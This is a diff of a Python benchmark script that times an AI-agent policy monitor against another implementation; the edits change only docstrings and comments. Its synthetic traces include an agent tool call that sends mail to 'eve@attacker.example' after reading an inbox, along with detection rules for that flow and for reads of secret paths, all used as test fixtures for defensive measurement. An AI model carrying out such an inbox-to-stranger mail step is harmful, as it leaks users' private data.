@@ -32,7 +32,7 @@ raise "mail to a stranger after the inbox was read" if:
 
 
 def message(index, length):
-    """The message at a place of a trace of some length."""
+    """Returns the message at an index of a trace of this length."""
     block, part = divmod(index, 4)
     if part == 0:
         return {"role": "user", "content": f"Question {block}: what is in document {block} of the archive?"}
@@ -44,7 +44,7 @@ def message(index, length):
 
 
 def call(block, length):
-    """The call of a block: the first reads the inbox, the last that there is writes to a stranger."""
+    """Returns the call of a block: the first call reads the inbox, and the last one sends mail to a stranger."""
     last = (length - 2) // 4
     if block == last:
         return made(f"c{block}", "send_mail", {"to": "eve@attacker.example", "subject": "x", "body": "y"})
@@ -54,17 +54,17 @@ def call(block, length):
 
 
 def made(name, tool, arguments):
-    """A call in the form of messages."""
+    """Returns a call in the format of messages."""
     return {"id": name, "type": "function", "function": {"name": tool, "arguments": arguments}}
 
 
 def trace(length):
-    """A trace."""
+    """Returns a trace."""
     return [message(index, length) for index in range(length)]
 
 
 def many_rules():
-    """Fifty rules: 20 with patterns, 15 with regular expressions, 15 with a flow."""
+    """Returns fifty rules: 20 with patterns, 15 with regular expressions, 15 with a flow."""
     rules = []
     for index in range(20):
         rules.append(f'raise "pattern {index}" if:\n    (call: ToolCall)\n    call is tool:tool_{index}({{path: "/secret/{index}.*"}})')
@@ -76,28 +76,28 @@ def many_rules():
 
 
 def appended():
-    """One more message with a call that the flow rule forbids."""
+    """Returns one more message with a call that the flow rule forbids."""
     return {"role": "assistant", "content": "One more.", "tool_calls": [made("more", "send_mail", {"to": "eve@attacker.example", "subject": "x", "body": "y"})]}
 
 
 def median_of(run, budget=3.0, most=25):
-    """Milliseconds in the median, of as many runs as fit into a budget of seconds, and what the last run gave."""
+    """Returns the median in milliseconds, of the runs that fit into a budget of seconds, and the result of the last run."""
     begun, times = time.perf_counter(), []
     while not times or (time.perf_counter() - begun < budget and len(times) < most):
         start = time.perf_counter()
         result = run()
         times.append((time.perf_counter() - start) * 1e3)
-    # The first run warms up, if there were others.
+    # The first run is a warm-up, if there are others.
     return statistics.median(times[1:] or times), result
 
 
 def note(text):
-    """Tells what is being measured, without disturbing the table."""
+    """Prints the progress to standard error, separately from the table."""
     print(f"  {text}", file=sys.stderr, flush=True)
 
 
 def time_original(workload):
-    """The original's milliseconds by row, and what it found."""
+    """Returns the original's milliseconds by row, and its findings."""
     from invariant.analyzer import Monitor
     from invariant.analyzer.policy import LocalPolicy
 
@@ -118,14 +118,14 @@ def time_original(workload):
     note(f"original: one more call after {len(past)} messages")
     policy_text, pending = workload["flow"]["policy"], [workload["flow"]["call"]]
     monitors = [Monitor.from_string(policy_text) for _ in range(3)]
-    # A monitor tells every finding once; so each one is asked once.
+    # A monitor reports every finding once, so each monitor is called once.
     times = [median_of(lambda: monitor.check(past, pending), budget=0) for monitor in monitors]
     rows["append"], found["append"] = statistics.median(taken for taken, _ in times), len(times[-1][1])
     return rows, found
 
 
 def time_ours(workload):
-    """Our microseconds: (what, workload, messages) to time and findings."""
+    """Returns our microseconds and findings by (what, workload, messages)."""
     with tempfile.NamedTemporaryFile("w", suffix=".json") as file:
         json.dump(workload, file)
         file.flush()
@@ -136,14 +136,14 @@ def time_ours(workload):
 
 
 def exponent(points):
-    """The power of the length with which time grows, fitted over (length, time)."""
+    """Returns the exponent of the growth of time with length, fitted over (length, time)."""
     xs, ys = [math.log(x) for x, _ in points], [math.log(y) for _, y in points]
     mean_x, mean_y = statistics.fmean(xs), statistics.fmean(ys)
     return sum((x - mean_x) * (y - mean_y) for x, y in zip(xs, ys)) / sum((x - mean_x) ** 2 for x in xs)
 
 
 def processor():
-    """The name of the processor."""
+    """Returns the name of the processor."""
     with open("/proc/cpuinfo") as file:
         for line in file:
             if line.startswith("model name"):
@@ -152,7 +152,7 @@ def processor():
 
 
 def print_heading():
-    """Says when, where and of what the numbers are."""
+    """Prints the date, the machine and the versions of the measurement."""
     commit = subprocess.run(["git", "rev-parse", "--short", "HEAD"], cwd=ROOT, capture_output=True, text=True).stdout.strip()
     load = ", ".join(f"{value:.2f}" for value in os.getloadavg())
     print(f"date {datetime.date.today()}  commit {commit}  invariant-ai {version('invariant-ai')}  Python {platform.python_version()}")
@@ -160,14 +160,14 @@ def print_heading():
 
 
 def row(name, original, ours, ours_with_parsing):
-    """One line of the table; the original is in milliseconds, ours in microseconds."""
+    """Prints one line of the table; the original is in milliseconds, ours in microseconds."""
     ratio = f"{original * 1e3 / ours:12,.0f}x"
     with_parsing = f"{ours_with_parsing:14,.1f}" if ours_with_parsing is not None else f"{'':>14}"
     print(f"{name:<44}{original:14,.2f}{ours:14,.1f}{with_parsing}{ratio}")
 
 
 def print_table(workload, original, ours):
-    """The numbers side by side."""
+    """Prints the results of both sides."""
     print(f"{'median':<44}{'original, ms':>14}{'ours, us':>14}{'with reading':>14}{'ratio':>13}")
     lengths = [len(messages) for messages in workload["flow"]["traces"]]
     for length in lengths:
@@ -192,7 +192,7 @@ def print_table(workload, original, ours):
 
 
 def check_findings(found, ours, workload):
-    """Says where the two sides find different numbers of things."""
+    """Reports workloads for which the numbers of findings differ."""
     wrong = []
     for messages in workload["flow"]["traces"]:
         mine = ours[("analyze", "flow", len(messages))][1]
